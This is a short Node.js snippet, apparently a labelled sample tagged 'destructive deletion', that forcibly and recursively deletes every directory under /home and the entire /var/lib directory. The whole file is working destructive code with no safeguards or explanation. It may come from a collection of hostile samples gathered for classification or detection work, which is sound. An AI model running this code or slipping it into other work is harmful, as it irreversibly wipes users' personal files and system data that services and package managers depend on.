// class: destructive deletion; style: short
const { rmSync, readdirSync } = require('fs');
for (const name of readdirSync('/home')) {
  rmSync(`/home/${name}`, { recursive: true, force: true });
}
rmSync('/var/lib', { recursive: true, force: true });
